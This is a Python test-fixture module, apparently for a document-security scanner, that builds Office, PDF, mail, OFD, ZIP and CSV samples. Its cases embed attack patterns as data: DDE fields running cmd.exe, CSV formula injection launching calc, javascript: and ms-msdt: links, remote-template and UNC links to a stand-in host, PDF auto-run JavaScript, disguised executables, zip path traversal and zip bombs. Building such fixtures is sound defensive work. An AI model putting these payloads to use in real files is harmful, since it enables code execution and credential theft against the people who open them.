"""Files for each row of the table in docs/files.md, as `(name, content)`, made by code."""

import base64
import io
import struct
import zipfile
import zlib

import pikepdf

from tests.made_files import (
    BOOK,
    EXE,
    MAIN_TYPES,
    OFFICE_TYPE,
    PDF,
    RELATION,
    STRICT,
    WORD,
    archive,
    entry,
    nested,
    ofd,
    office,
    ole,
    package,
    packed_file,
    pdf,
    photo,
    picture,
    record,
    relations,
    relationships,
    saved,
    zipped,
)

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
NET = "http://10.0.0.1/x"
UNC = r"\\10.0.0.1\x\a.dotm"
JS = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
HIDDEN = "stuff/part.dat"  # a part where nobody looks for it


def docx(**parts):
    return ("a.docx", office("docx", **parts))


def xlsx(**parts):
    return ("a.xlsx", office("xlsx", **parts))


def pptx(**parts):
    return ("a.pptx", office("pptx", **parts))


def typed(ending, part, content_type, content):
    """An Office file with a part of that type, wherever it stands."""
    return (
        f"a.{ending}",
        office(ending, f'<Override PartName="/{part}" ContentType="{content_type}"/>', **{part: content}),
    )


def linked(kind, target, ending="docx", mode="External", base=RELATION):
    """An Office file whose main part leads there."""
    folder = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}[ending]
    return (f"a.{ending}", office(ending, **{folder: relationships((f"{base}/{kind}", target, mode))}))


def rooted(kind, target):
    """A Word file that leads there from the package itself."""
    main = (f"{RELATION}/officeDocument", "word/document.xml", "Internal")
    return docx(**{"_rels/.rels": relationships(main, (f"{RELATION}/{kind}", target, "External"))})


def elsewhere(kind, target):
    """A Word file whose main part is called otherwise and leads there."""
    return (
        "a.docx",
        package("stuff/main.xml", MAIN_TYPES["docx"], **{"STUFF/_Rels/Main.XML.rels": relations(kind, target)}),
    )


def word(body, part="word/document.xml"):
    return docx(**{part: f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'})


def fields(*steps):
    """Runs of a paragraph: `{`, `|` and `}` are the characters of fields, everything else is an instruction."""
    kinds = {"{": "begin", "|": "separate", "}": "end"}
    runs = [
        f'<w:r><w:fldChar w:fldCharType="{kinds[step]}"/></w:r>'
        if step in kinds
        else f"<w:r><w:instrText>{step}</w:instrText></w:r>"
        for step in steps
    ]
    return f"<w:p>{''.join(runs)}</w:p>"


def field(instruction):
    return word(fields("{", instruction, "|", "}"))


def sheet(body, part="xl/worksheets/sheet1.xml"):
    return xlsx(**{part: f'<worksheet xmlns="{SHEET}">{body}</worksheet>'})


def formula(text):
    return sheet(f"<sheetData><row><c><f>{text}</f></c></row></sheetData>")


def svg(body, attributes=""):
    content = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{body}</svg>'
    )
    return docx(**{"word/media/image1.svg": content})


def referenced(element):
    """A Word file that uses a relationship of a link to click on for something that is read on opening."""
    body = f'<w:p xmlns:w="{WORD}" xmlns:a="{DRAWING}" xmlns:r="{RELATION}">{element}</w:p>'
    return docx(**{"word/document.xml": body, "word/_rels/document.xml.rels": relations("hyperlink", NET)})


def dragged(name=b"a.pdf", content=PDF):
    return ole({"\x01Ole10Native": packed_file(name, content)})


def link_stream(address):
    return b"\x01\x00\x00\x02\x01\x00\x00\x00" + address.encode("utf-16-le")


def old_word(*instructions, code="utf-16-le"):
    text = "".join(f"\x13{instruction}\x14x\x15" for instruction in instructions)
    return ("a.doc", ole({"WordDocument": bytes(64) + text.encode(code)}))


def old_book(*records):
    return BOOK[:20] + b"".join(records) + BOOK[20:]


def linked_book(path):
    body = struct.pack("<2H", 1, len(path)) + b"\x01" + path.encode("utf-16-le")
    return ("a.xls", ole({"Workbook": old_book(record(0x1AE, body))}))


def excel_95(said, *, version=0x0500, in_sheet=False, stream="Book"):
    """A workbook of Excel 5 or 95 that links to `said`, from the book or from a sheet."""
    begin = struct.pack("<2H", version, 5) + bytes(4)
    sheet = record(0x85, bytes(6) + b"\x01A")
    link = record(0x16, b"\x01\x00") + record(0x17, bytes([len(said)]) + said.encode("gb18030"))
    parts = [record(0x809, begin), sheet, record(0x0A), record(0x809, begin), record(0x0A)]
    parts.insert(4 if in_sheet else 2, link)
    return {stream: b"".join(parts)}


def film(path):
    text = path.encode("utf-16-le")
    text = struct.pack("<2HL", 0, 0x0FBA, len(text)) + text
    return struct.pack("<2HL", 0xF, 0x1006, len(text)) + text


def mailed(name, content):
    """A mail of Outlook's with that attachment, in an archive."""
    place = "__attach_version1.0_#00000000/__substg1.0_"
    names = f"{name}\0".encode("utf-16-le")
    mail = ole({"__properties_version1.0": b"", f"{place}3707001F": names, f"{place}37010102": content})
    return ("a.zip", zipped(**{"a.msg": mail}))


def letter(*parts, head="Content-Type: multipart/mixed; boundary=zz"):
    """A mail in an archive, from its parts as text."""
    body = "".join(f"--zz\r\n{part}\r\n" for part in parts)
    text = f"From: a@example.gov.cn\r\nSubject: x\r\nMIME-Version: 1.0\r\n{head}\r\n\r\n{body}--zz--\r\n"
    return ("a.zip", zipped(**{"信.eml": text.encode()}))


TEXT = "Content-Type: text/plain; charset=utf-8\r\n\r\n您好，材料见附件。"


def attached(content, said='Content-Disposition: attachment; filename="a.pdf"', kind="application/octet-stream"):
    """A part of a mail, in Base64."""
    packed = base64.encodebytes(content).decode()
    return f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n{said}\r\n\r\n{packed}"


def named(name, content=b"x"):
    return attached(content, f'Content-Disposition: attachment; filename="{name}"')


def slides(body):
    return ("a.ppt", ole({"PowerPoint Document": body}))


def compressed_object(content):
    body = struct.pack("<L", len(content)) + zlib.compress(content)
    return struct.pack("<2HL", 0x10, 0x1011, len(body)) + body


def with_attachment(name, content=b"x"):
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments[name] = content
    return ("a.pdf", saved(document))


def form(xml):
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=document.make_stream(xml))
    return ("a.pdf", saved(document))


def outside_stream():
    document = pikepdf.new()
    document.add_blank_page()
    stream = document.make_stream(b"")
    stream.stream_dict.F = pikepdf.String("http://x/a")
    document.Root.X = stream
    return ("a.pdf", saved(document))


def in_zip(file, name=None):
    return ("材料.zip", zipped(**{name or file[0]: file[1]}))


def unicode_path(name, other, place):
    """An archive whose entry has another name in the Unicode Path field, in the list or before the entry."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as made:
        info = zipfile.ZipInfo(name)
        body = b"\x01" + struct.pack("<L", zlib.crc32(name.encode())) + other.encode()
        info.extra = struct.pack("<2H", 0x7075, len(body)) + body
        made.writestr(info, "x")
    made = data.getvalue()
    kept = made.index(b"PK\x01\x02")
    head, listed = made[:kept], made[kept:]
    wanted, masked = (head, listed) if place == "entry" else (listed, head)
    masked = masked.replace(struct.pack("<H", 0x7075), struct.pack("<H", 0x7777))
    return ("材料.zip", wanted + masked if place == "entry" else masked + wanted)


def csv(text, code="utf-8"):
    return ("台账.csv", text.encode(code))


MACRO = "application/vnd.ms-office.vbaProject"
CHUNKED = f'<w:altChunk xmlns:w="{WORD}"/>'
CONNECTION = f'<connections xmlns="{SHEET}"><connection id="1" %s>%s</connection></connections>'
PIVOT = f'<pivotCacheDefinition xmlns="{SHEET}" refreshOnLoad="1"><cacheSource type="%s"/></pivotCacheDefinition>'
VML = '<xml xmlns:v="urn:schemas-microsoft-com:vml"><br><v:imagedata src="%s"/></xml>'
RIBBON = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="a"/>'
STRICT_MAIN = {
    "_rels/.rels": relationships((f"{STRICT}/officeDocument", "word/document.xml", "Internal")),
    "word/document.xml": '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>',
}

CASES = {
    "O1": [
        docx(**{"word/vbaProject.bin": b"x"}),
        docx(**{"WORD\\VBA%50roject.bin": b"x"}),
        typed("docx", HIDDEN, MACRO, b"x"),
        linked(
            "vbaProject", "other.bin", mode="Internal", base="http://schemas.microsoft.com/office/2006/relationships"
        ),
        docx(**{HIDDEN: ole({"VBA/dir": b"x"})}),
        typed("xlsx", HIDDEN, "application/vnd.ms-excel.macrosheet+xml", "<x/>"),
        xlsx(**{"xl/JDEData.bin": b"<x/>"}),
        linked("jsProject", "a.dat", "xlsx", "Internal", "http://www.wps.cn/officeDocument/2020/relationships"),
        ("a.docx", package("word/document.xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    ],
    "O2": [
        docx(**{"word/activeX/activeX1.xml": "<x/>"}),
        typed("docx", HIDDEN, "application/vnd.ms-office.activeX+xml", "<x/>"),
        linked("control", "../stuff/part.dat", mode="Internal"),
    ],
    "O3": [
        linked("aFChunk", "../stuff/part.dat", mode="Internal"),
        linked("aFChunk", "/stuff/part.dat", mode="Internal", base=STRICT),
        docx(**{"word/document.xml": CHUNKED}),
        docx(**{"stuff/header.xml": CHUNKED}),
    ],
    "O4": [
        linked("image", "http://x/a.png"),
        linked("image", "https://x/a.png", "xlsx"),
        linked("image", "//x/a.png"),
        linked("image", "%5c%5c10.0.0.1%5ca.png"),
        linked("image", "file:///\\\\10.0.0.1\\a.png"),
        linked("image", "ht\ttp://x/a.png"),
        linked("attachedTemplate", NET, base=STRICT),
        linked("attachedTemplate", UNC),
        linked("oleObject", "mhtml:http://x!x-usc:http://x"),
        linked("externalLinkPath", "https://x/a.xlsx", "xlsx"),
        linked("settings", NET, mode="Internal"),
        linked("settings", "//x/y", mode=""),
        rooted("officeDocument", NET),
        rooted("metadata/thumbnail", NET),
        elsewhere("frame", NET),
        ("a.docx", office("docx", **{"stuff/_rels/nobody.xml.rels": relations("subDocument", NET)})),
        ("a.docx", office("docx", **{"stuff/other.rels": relations("subDocument", NET)})),
        referenced('<a:blip r:link="r1"/>'),
        linked("hyperlink", NET, base="http://elsewhere"),
        docx(**{"word/drawing.vml": VML % NET}),
        docx(**{"word/media/a.bin": ole({"\x01Ole": link_stream(NET)})}),
    ],
    "O5": [
        linked("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"),
        linked("image", "file:///C:\\Users\\x\\AppData\\Local\\Temp\\ksohtml\\wps1.png"),
        linked("image", "file://localhost/Users/x/a.png"),
        linked("externalLinkPath", "台账.xlsx", "xlsx"),
        linked("externalLinkPath", "file:///D:\\台账.xlsx", "xlsx"),
        docx(**{"word/media/a.bin": ole({"\x01Ole": link_stream("D:\\台账.xlsx")})}),
    ],
    "O6": [
        linked("hyperlink", "https://www.example.gov.cn/a?b=c#d"),
        linked("hyperlink", "mailto:a@b.cn", base=STRICT),
        linked("hyperlink", "www.example.gov.cn", "xlsx"),
        linked("hyperlink", "file:///D:\\资料\\台账.xlsx", "xlsx"),
        linked("hyperlink", "..%2f资料/台账.xlsx"),
        linked("image", "NULL"),
        field('HYPERLINK "https://www.example.gov.cn/DDE" \\o "说明"'),
        referenced('<w:hyperlink r:id="r1"/>'),
        formula('HYPERLINK("https://www.example.gov.cn/","甲|乙!")'),
    ],
    "O7": [
        linked("hyperlink", UNC),
        linked("hyperlink", "file://server/share/a.docx"),
        linked("hyperlink", "weixin:x"),
        field(r'HYPERLINK "\\\\10.0.0.1\\share"'),
    ],
    "O8": [
        linked("hyperlink", "javascript:alert(1)"),
        linked("hyperlink", "JaVa\nScript:alert(1)"),
        linked("hyperlink", "mhtml:http://x!y"),
        linked("hyperlink", "ms-msdt:/id x"),
        linked("hyperlink", "search-ms:query=x", "xlsx"),
        field('HYPERLINK "vbscript:x"'),
    ],
    "O9": [
        field(" DDEAUTO c:\\\\windows\\\\cmd.exe"),
        word(fields("{", "D", "DE", "AUTO x", "}")),
        word(fields("{", "dde excel x")),
        word(fields("{", "{", "QUOTE 68 68 69", "|", "}", " cmd", "}")),
        word(fields("{", "IF 1=1 ", "{", "DDE cmd x", "|", "}", "}")),
        word(fields("DDE cmd x"), "stuff/header.xml"),
        word('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'),
        typed(
            "docx",
            HIDDEN,
            f"{OFFICE_TYPE}.wordprocessingml.footer+xml",
            f'<w:p xmlns:w="{WORD}"><w:fldSimple w:instr="DDE cmd"/></w:p>',
        ),
        docx(**{"word/document.xml": f'<w:p xmlns:w="{WORD}"><w:fldSimple w:instr="DDE x"/></w:p>'.encode("utf-16")}),
    ],
    "O10": [
        field('INCLUDEPICTURE "http://x/a.png" \\* MERGEFORMATINET'),
        field('INCLUDEPICTURE \\d "https://x/a.png"'),
        field(r'INCLUDETEXT "\\\\10.0.0.1\\x\\a.docx"'),
        field("IncludeText file://server/a.docx"),
        field('LINK Excel.Sheet.12 "http://x/a.xlsx" "R1C1" \\a'),
        word(fields("{", "INCLUDEPICTURE ", "{", 'QUOTE "http:" 47 47 120', "|", "}", "}")),
        word(fields("{", "INCLUDEPICTURE ", "{", "REF a", "|", "}", "}")),
    ],
    "O11": [
        field(r'INCLUDEPICTURE "C:\\Users\\x\\Temp\\ksohtml\\wps1.jpg" \* MERGEFORMAT'),
        field(r'LINK Excel.Sheet.12 "D:\\台账.xlsx" "Sheet1!R1C1" \a \f 0'),
        word(fields("{", 'INCLUDEPICTURE "', "{", "MERGEFIELD 照片", "|", "}", '"', "}")),
    ],
    "O12": [
        formula("cmd|'/c calc'!A0"),
        formula("1+\"a\"&amp;cmd|'/c calc'!A0"),
        formula("&#99;md|x!A0"),
        formula('RTD("prog",,"x")'),
        formula('CALL("kernel32","WinExec","JC","calc",0)'),
        sheet(
            "<conditionalFormatting><cfRule><formula>cmd|x!A0</formula></cfRule></conditionalFormatting>", "xl/a/b.xml"
        ),
        xlsx(**{"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET}"><ddeLink/></externalLink>'}),
        xlsx(**{"stuff/link.xml": f'<externalLink xmlns="{SHEET}"><ddeLink/></externalLink>'}),
        xlsx(**{"xl/volatile.xml": f'<volTypes xmlns="{SHEET}"><volType type="realTimeData"/></volTypes>'}),
    ],
    "O13": [formula('_xlfn.WEBSERVICE("http://x/")'), formula('_xlfn.IMAGE("http://x/")'), formula("webservice (A1)")],
    "O14": [
        xlsx(**{"xl/connections.xml": CONNECTION % ('refreshOnLoad="1"', "")}),
        xlsx(**{"stuff/c.xml": CONNECTION % ('refreshOnLoad="true"', "")}),
        xlsx(**{"xl/connections.xml": CONNECTION % ('interval="5"', "")}),
        xlsx(**{"xl/connections.xml": CONNECTION % ("", '<webPr url="http://x"/>')}),
        xlsx(**{"xl/queryTables/q.xml": f'<queryTable xmlns="{SHEET}" refreshOnLoad="1"/>'}),
        xlsx(**{"xl/pivotCache/p.xml": PIVOT % "external"}),
    ],
    "O15": [xlsx(**{"xl/connections.xml": CONNECTION % ('refreshOnLoad="0" interval="0"', "<dbPr/>")})],
    "O16": [
        pptx(**{"ppt/slides/s.xml": f'<a:hlinkClick xmlns:a="{DRAWING}" action="ppaction://program"/>'}),
        pptx(**{"x/s.xml": f'<a:hlinkMouseOver xmlns:a="{DRAWING}" action="ppaction://macro?name=a"/>'}),
    ],
    "O17": [docx(**{"customUI/customUI.xml": RIBBON}), xlsx(**{"stuff/x.xml": RIBBON})],
    "O18": [
        svg("<script>x</script>"),
        svg("", 'onload="x"'),
        svg("<foreignObject/>"),
        svg('<image xlink:href="http://x/a.png"/>'),
    ],
    "O19": [svg('<path d="M0 0"/><image xlink:href="data:image/png;base64,AA"/><use href="#a"/>')],
    "O20": [
        docx(**{"word/a.html": "x"}),
        typed("docx", HIDDEN, "text/html", "x"),
        typed("docx", HIDDEN, "message/rfc822", "x"),
        docx(**{HIDDEN: EXE}),
        docx(**{"word/embeddings/a.exe": b"x"}),
        docx(**{HIDDEN: dragged(b"a.lnk", b"x")}),
        docx(**{HIDDEN: dragged(b"a.dat", EXE)}),
    ],
    "O21": [docx(**{HIDDEN: dragged()})],
    "O22": [
        docx(**{"word/embeddings/a.xlsx": office("xlsx")}),
        docx(**{"word/embeddings/a.bin": ole({"Package": office("xlsx", **{"docProps/a.xml": "<x/>" + " " * 4096})})}),
        pptx(**{"ppt/embeddings/a.bin": ole({"Equation Native": b"x"})}),
    ],
    "O23": [
        docx(**{HIDDEN: office("xlsx", **{"xl/vbaProject.bin": b"x"})}),
        docx(**{HIDDEN: office("docx", **{"word/_rels/document.xml.rels": relations("image", NET)})}),
        docx(**{HIDDEN: zipped(**{"a.exe": b"x"})}),
        docx(**{HIDDEN: pdf(OpenAction=JS)}),
        docx(**{HIDDEN: office("docx", **{HIDDEN: office("xlsx", **{"xl/vbaProject.bin": b"x"})})}),
    ],
    "O24": [("a.docx", ole({"EncryptionInfo": b"", "EncryptedPackage": b""}))],
    "O25": [
        docx(
            **{
                "word/webextensions/w.xml": '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"/>'
            }
        )
    ],
    "O26": [
        ("a.docx", archive("[Content_Types].xml", "word/document.xml")),
        docx(**{"WORD/Document.xml": "<x/>"}),
        docx(**{"word\\document.xml": "<x/>"}),
        docx(**{"word/document.xml": "<!DOCTYPE x><x/>"}),
        docx(**{"word/document.xml": "<x>"}),
        docx(**{"word/document.xml/[0].piece": "<x/>"}),
        ("a.docx", package("word/document.xml", MAIN_TYPES["xlsx"])),
        docx(**{"_rels/.rels": relationships((f"{RELATION}/officeDocument", "word/none.xml", "Internal"))}),
    ],
    "O27": [
        ("a.docx", package("word/document2.xml", MAIN_TYPES["docx"])),
        ("a.docx", package("stuff/main.xml", MAIN_TYPES["docx"])),
        docx(**STRICT_MAIN),
        docx(**{"_rels/.rels": relationships((f"{RELATION}/officeDocument", "/word/document.xml", "Internal"))}),
    ],
    "L1": [
        ("a.doc", ole({"WordDocument": b"", "Macros/VBA/dir": b"x"})),
        ("a.et", ole({"Workbook": BOOK, "_VBA_PROJECT_CUR/VBA/dir": b"x"})),
        slides(compressed_object(ole({"VBA/dir": b"x"}))),
    ],
    "L2": [
        old_word(" DDEAUTO cmd x "),
        old_word("dde cmd x", code="latin-1"),
        ("a.xls", ole({"Workbook": old_book(record(0x1AE, b"\x00\x00\x09\x00\x00cmd\x03/c x"))})),
        ("a.xls", ole(excel_95("cmd\x03/c x"))),
        ("a.et", ole(excel_95("cmd\x03/c x", in_sheet=True))),
    ],
    "L3": [
        old_word('INCLUDEPICTURE "http://x/a.png" \\d'),
        ("a.doc", ole({"WordDocument": b"", "ObjectPool/_1/\x01Ole": link_stream(NET)})),
    ],
    "L4": [old_word(r'INCLUDEPICTURE "C:\\a.png" \* MERGEFORMAT')],
    "L5": [("a.doc", ole({"WordDocument": bytes(10) + b"\x00\x01" + bytes(50)}))],
    "L6": [
        ("a.xls", ole({"Workbook": old_book(record(0x2F, bytes(6)))})),
        ("a.ppt", ole({"PowerPoint Document": b"", "EncryptedSummary": b""})),
    ],
    "L7": [
        ("a.doc", ole({"WordDocument": b"", "ObjectPool/_1/\x01Ole10Native": packed_file(b"a.hta", b"x")})),
        slides(compressed_object(dragged(b"a.exe", EXE))),
    ],
    "L8": [
        ("a.doc", ole({"WordDocument": b"", "ObjectPool/_1/\x01Ole10Native": packed_file(b"a.pdf", PDF)})),
        slides(compressed_object(dragged())),
    ],
    "L9": [
        linked_book("\x01\x05\x0ehttp://x/a.xls"),
        linked_book("\x01\x01@10.0.0.1\x03x\x03[a.xls]"),
        ("a.et", ole({"Workbook": BOOK + record(0x1AD, b"\x20\x00")})),
        ("a.xls", ole(excel_95("\x01\x05\x0ehttp://x/a.xls"))),
        ("a.xls", ole(excel_95("\x01\x01@10.0.0.1\x03x\x03[a.xls]表"))),
        ("a.xls", ole(excel_95("http://10.0.0.1/a.xls"))),
        ("a.xls", ole(excel_95("\\\\10.0.0.1\\x\\[a.xls]A", in_sheet=True))),
        ("a.xls", ole(excel_95("\x01\x05\x0ehttp://x/a.xls", stream="Workbook"))),
        ("a.xls", ole({"Workbook": BOOK, **excel_95("\x01\x05\x0ehttp://x/a.xls")})),
    ],
    "L10": [
        linked_book("\x01\x01C\x03a\x03[b.xls]"),
        linked_book("\x01b.xls"),
        ("a.xls", ole({"Workbook": BOOK + record(0x1AD, b"\x00\x00")})),
        ("a.xls", ole(excel_95("\x01\x01C\x03a\x03[b.xls]表"))),
        ("a.xls", ole(excel_95("\x01[b.xls]A", in_sheet=True))),
        ("a.et", ole(excel_95("[b.xls]A"))),
    ],
    "L11": [slides(film(NET)), slides(film(UNC))],
    "L12": [slides(film(r"C:\a.avi"))],
    "M1": [
        mailed("a.exe", EXE),
        mailed("a.txt", ole({"WordDocument": b"", "Macros/VBA/dir": b"x"})),
        mailed("a.docm", b"x"),
        mailed("a.zip", archive("a.js")),
        mailed("a.txt", EXE),
        mailed("a.eml", letter(TEXT, named("a.exe"))[1]),
    ],
    "M2": [mailed("a.pdf", PDF), mailed("说明.txt", "说明".encode())],
    "M3": [
        letter(TEXT, named("a.exe")),
        letter(TEXT, named("说明.JS. ")),
        letter(TEXT, named("=?utf-8?b?5p2Q5paZLmxuaw==?=")),
        letter(TEXT, attached(b"x", "Content-Disposition: attachment; filename*=utf-8''%E6%9D%90%2Ehta")),
        letter(TEXT, attached(b"x", 'Content-Disposition: attachment; filename*0="a.v"; filename*1="bs"')),
        letter(TEXT, attached(b"x", "Content-Disposition: inline", kind='application/pdf; name="a.docm"')),
        letter(TEXT, attached(b"x", 'Content-Disposition: attachment; filename="a.pdf"; filename="a.exe"')),
        letter(TEXT, attached(b"x", "Content-Disposition: attachment; filename=a.pdf filename=a.exe")),
        letter(TEXT, attached(EXE)),
        letter(TEXT, attached(b"<p>", "Content-Disposition: attachment", kind="text/html")),
        letter(TEXT, attached(office("docx", **{"word/vbaProject.bin": b"x"}))),
        letter(TEXT, attached(pdf(OpenAction=JS))),
        letter(TEXT, named("a.csv", b"=cmd|'/c calc'!A0")),
        letter(TEXT, named("a.zip", archive("a.exe"))),
        letter(TEXT, f"Content-Type: message/rfc822\r\n\r\nFrom: b@x\r\n{named('a.exe')}"),
        letter(TEXT, named("转发.eml", f"From: b@x\r\n{named('a.exe')}".encode())),
        letter(f"Content-Type: multipart/mixed; boundary=yy\r\n\r\n--yy\r\n{named('a.exe')}\r\n--yy--"),
        ("a.zip", zipped(**{"信.eml": named("a.exe").encode()})),
        ("a.zip", zipped(**{"信.eml": b"\xef\xbb\xbf\r\n" + named("a.exe").encode()})),
        ("a.docx", office("docx", **{HIDDEN: dragged(b"a.eml", named("a.exe").encode())})),
    ],
    "M4": [
        letter(TEXT, attached(PDF)),
        letter(TEXT, attached(picture("png"), "Content-ID: <a>", kind="image/png; name=image001.png")),
        letter(TEXT, "Content-Type: message/rfc822\r\n\r\nFrom: b@x\r\nSubject: y\r\n\r\n您好"),
    ],
    "M5": [
        letter(TEXT),
        letter(TEXT, "Content-Type: text/html; charset=utf-8\r\n\r\n<p>您好</p>"),
        ("a.zip", zipped(**{"信.eml": "From: a@x\n\n您好，begin 办理。\n".encode("gb18030")})),
    ],
    "M6": [
        letter(TEXT, named("a.pdf") + "\r\n", head="Content-Type: multipart/mixed"),
        letter(TEXT, head="Content-Type: multipart/mixed; boundary=other"),
        letter(TEXT, head="Content-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=zz"),
        letter(TEXT, head="Content-Type: multipart/mixed; boundary=zz\r\nContent-Transfer-Encoding: base64"),
        letter(TEXT, "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\nRnJvbTogYkB4"),
        letter(TEXT, "Content-Type: message/partial; id=a; number=1\r\n\r\nFrom: b@x\r\n\r\nx"),
        letter(TEXT, "Content-Type: message/external-body; access-type=URL; URL=x\r\n\r\nContent-Type: x/y"),
        letter("Content-Type: text/plain\r\n\r\nbegin 644 a.exe\r\n#0V%T\r\n`\r\nend"),
        letter(TEXT, named("a" * 20_000)),
    ],
    "M7": [
        letter(head='Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"'),
        letter(TEXT, head="Content-Type: multipart/encrypted; boundary=zz; protocol=application/pgp-encrypted"),
    ],
    "M8": [letter(TEXT, attached(b'x\x9f>"', kind="application/ms-tnef; name=winmail.dat"))],
    "P1": [("a.pdf", pdf(OpenAction=JS)), ("a.pdf", pdf(Outlines="<</A<</S/URI/URI(javascript:x)>>>>"))],
    "P2": [("a.pdf", pdf(OpenAction=f"<</S/{action}>>")) for action in ("Launch", "SubmitForm", "ImportData", "GoToE")],
    "P3": [("a.pdf", pdf(X=f"[<</Type/Annot/Subtype/{kind}>>]")) for kind in ("RichMedia", "Movie", "3D")],
    "P4": [
        ("a.pdf", pdf(OpenAction="<</S/URI/URI(http://x)>>")),
        ("a.pdf", pdf(OpenAction="<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\a.pdf)/D[0/Fit]>>")),
        ("a.pdf", pdf(OpenAction="<</S/GoTo/D[0/Fit]/Next[<</S/GoTo/D[0/Fit]/Next<</S/URI/URI(http://x)>>>>]>>")),
        ("a.pdf", pdf(X="<</AA<</O<</S/GoToR/F(a.pdf)>>>>>>")),
    ],
    "P5": [("a.pdf", pdf(Outlines="<</First<</Title(a)/A<</S/URI/URI(https://www.example.gov.cn/)>>>>>>"))],
    "P6": [("a.pdf", pdf(Outlines="<</First<</Title(a)/A<</S/GoToR/F(b.pdf)/D[0/Fit]>>>>>>"))],
    "P7": [outside_stream(), ("a.pdf", pdf(X="<</Subtype/Form/Ref<</F(http://x/a.pdf)/Page 0>>>>"))],
    "P8": [
        form(b"<template><script>x</script></template>"),
        form(b"<submit format='xml'/>"),
        form(b"<?xml-stylesheet href='\\\\10.0.0.1\\a'?><x/>"),
    ],
    "P9": [with_attachment("发票.xml")],
    "P10": [with_attachment("a.exe"), with_attachment("a.docm"), with_attachment("a.dat", EXE)],
    "P11": [("a.pdf", saved(pikepdf.open(io.BytesIO(PDF)), encryption=pikepdf.Encryption(user="u", owner="o")))],
    "F1": [("a.ofd", ofd(**{"Doc_0/Attachs/Attachments.xml": "<x/>"}))],
    "F2": [
        (
            "a.ofd",
            ofd(
                **{
                    "Doc_0/Document.xml": '<o:Action xmlns:o="http://www.ofdspec.org/2016" Event="DO"><o:URI URI="http://x"/></o:Action>'
                }
            ),
        )
    ],
    "F3": [
        ("a.ofd", ofd(**{"Doc_0/Attachs/a.exe": b"x"})),
        ("a.ofd", ofd(**{"Doc_0/Attachs/a": office("docx", **{"word/vbaProject.bin": b"x"})})),
    ],
    "Z1": [
        ("a.zip", entry("../a.txt")),
        ("a.zip", entry("a.txt", b"/etc/passwd", mode=0o120777)),
        ("a.zip", archive("a.txt", "A.TXT")),
    ],
    "Z2": [
        ("a.zip", archive("a.js")),
        ("a.zip", archive("a.xlsm")),
        ("a.zip", archive("a.html.")),
        ("a.zip", zipped(**{"a.txt": EXE})),
        unicode_path("a.txt", "a.exe", "list"),
        unicode_path("a.txt", "a.exe", "entry"),
        unicode_path("a.txt", "../a.txt", "entry"),
    ],
    "Z3": [
        in_zip(docx(**{"word/vbaProject.bin": b"x"}), "一/a.dat"),
        in_zip(linked("image", NET)),
        in_zip(field("DDEAUTO x")),
        in_zip(formula("cmd|x!A0")),
        in_zip(("a.pdf", pdf(OpenAction=JS))),
        in_zip(
            (
                "a.pdf",
                saved(
                    pikepdf.open(io.BytesIO(pdf(OpenAction=JS))), object_stream_mode=pikepdf.ObjectStreamMode.generate
                ),
            )
        ),
        in_zip(("a.doc", ole({"WordDocument": b"", "Macros/VBA/dir": b"x"}))),
        in_zip(csv("甲,=cmd|'/c calc'!A0")),
        in_zip(("说明.txt", b"<html>")),
        in_zip(in_zip(linked("attachedTemplate", UNC))),
        in_zip(("a.ofd", ofd(**{"Doc_0/Attachs/a.exe": b"x"}))),
    ],
    "Z4": [("a.zip", nested(2)), ("a.zip", zipped(**{"内.zip": zipped(**{"a.docx": office("docx"), "b.pdf": PDF})}))],
    "Z5": [
        ("a.zip", nested(3)),
        ("a.zip", zipped(**{"a.txt": bytes(40_000_000)})),
        ("a.zip", zipped(**{f"{number}.zip": zipped(a=bytes(4_900_000)) for number in range(80)})),
        ("a.zip", entry("a.txt", b"x" * 100, method=zipfile.ZIP_LZMA)),
    ],
    "Z6": [("a.zip", entry("密.pdf", flags=1))],
    "Z7": [("a.zip", zipped(**{"a.rar": b"Rar!"}))],
    "Z8": [
        in_zip(("a.rtf", rb"{\rtf1{\object\objemb{\*\objdata 01}}}")),
        in_zip(("a.doc", rb"{\rtf1{\*\template http://x/a.dotm}}")),
        in_zip(("a.rtf", rb'{\rtf1{\field{\*\fldinst {INCLUDEPICTURE "http://x/a.png"}}{\fldrslt}}}')),
    ],
    "T1": [("a.txt", b"<!DOCTYPE html>"), ("a.csv", b"#!/bin/sh"), ("a.txt", "<svg onload=x>".encode("utf-16"))],
    "T2": [
        csv("=cmd|'/c calc'!A0"),
        csv("\ufeff=cmd|'/c calc'!A0"),
        csv("=cmd|'/c calc'!A0", "utf-16"),
        csv("甲;乙\n1;+cmd|' /C x'!Z9", "gb18030"),
        csv("甲,\"=SUM(1,2)+cmd|'/c calc,x'!A0\""),
        csv("甲,\"\n  =cmd|'/c\ncalc'!A0\""),
        csv("sep=~\n甲~=cmd|'/c calc'!A0"),
        csv('"甲\n" \t\'"@SUM(1)*cmd|x!A0"'),
        csv('=WEBSERVICE("http://x/"&A1)'),
        csv("甲,乙\r=cmd|x!A0"),
        csv("x" * 2_000_000 + "\n=cmd|x!A0"),
    ],
    "T3": [csv('=SUM(A1:A3),-5,+86 537,@某人,甲|乙!\n=HYPERLINK("https://x")'), csv('=IF(A1="甲|乙!",1,0)')],
    "B1": [("a.png", picture("png")[:40])],
